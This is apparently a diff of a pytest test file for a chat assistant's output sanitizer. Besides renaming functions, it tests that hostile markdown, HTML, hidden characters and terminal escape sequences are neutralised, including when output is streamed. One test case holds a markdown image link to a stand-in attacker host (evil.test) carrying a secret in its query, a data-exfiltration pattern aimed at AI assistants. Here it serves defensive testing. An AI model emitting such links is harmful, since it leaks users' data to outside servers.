@@ -2,7 +2,7 @@
 
 import pytest
 
-from fieldguide_server.assistant.text.sanitizer import Guard, clean, harmless
+from fieldguide_server.assistant.text.sanitizer import StreamSanitizer, clean, sanitize
 
 HOSTILE = [
     ("a ![x](https://evil.test/?q=secret) b", "a x b"),
@@ -37,28 +37,28 @@ HARMLESS = [
 
 @pytest.mark.parametrize(("text", "shown"), HOSTILE)
 def test_images_links_addresses_and_html_are_made_inert(text: str, shown: str) -> None:
-    assert harmless(text) == shown
+    assert sanitize(text) == shown
 
 
 @pytest.mark.parametrize("text", HARMLESS)
 def test_ordinary_markdown_and_code_blocks_stay_as_they_are(text: str) -> None:
-    assert harmless(text) == text
+    assert sanitize(text) == text
 
 
 @pytest.mark.parametrize("text", [*[hostile for hostile, _ in HOSTILE], *HARMLESS])
 @pytest.mark.parametrize("size", [1, 3, 7])
 def test_a_stream_shows_the_same_as_the_whole_text(text: str, size: int) -> None:
-    guard = Guard()
-    shown = "".join(guard.feed(text[at : at + size]) for at in range(0, len(text), size))
-    assert shown + guard.flush() == harmless(text)
+    sanitizer = StreamSanitizer()
+    shown = "".join(sanitizer.feed(text[at : at + size]) for at in range(0, len(text), size))
+    assert shown + sanitizer.flush() == sanitize(text)
 
 
 def test_a_stream_shows_plain_words_at_once() -> None:
-    guard = Guard()
-    assert guard.feed("The store signs ") == "The store signs "
-    assert guard.feed("cookies with ") == "cookies with "
-    assert guard.feed("`hmac` and [a.py:3") == "`hmac` and "
-    assert guard.feed("] so ") == "[a.py:3] so "
+    sanitizer = StreamSanitizer()
+    assert sanitizer.feed("The store signs ") == "The store signs "
+    assert sanitizer.feed("cookies with ") == "cookies with "
+    assert sanitizer.feed("`hmac` and [a.py:3") == "`hmac` and "
+    assert sanitizer.feed("] so ") == "[a.py:3] so "
 
 
 @pytest.mark.parametrize(
@@ -80,11 +80,11 @@ def test_what_cannot_be_seen_is_removed(text: str, shown: str) -> None:
 
 
 def test_an_escape_sequence_in_pieces_is_removed_whole() -> None:
-    guard = Guard()
-    shown = "".join(guard.feed(character) for character in "so \x1b[31mred\x1b[0m it is ")
-    assert shown + guard.flush() == "so red it is "
+    sanitizer = StreamSanitizer()
+    shown = "".join(sanitizer.feed(character) for character in "so \x1b[31mred\x1b[0m it is ")
+    assert shown + sanitizer.flush() == "so red it is "
 
 
 def test_long_lines_full_of_brackets_take_no_harm() -> None:
     text = "[" * 20_000 + "](" * 5_000 + "<" * 20_000 + "`" * 5_000
-    assert "](" not in harmless(text)
+    assert "](" not in sanitize(text)
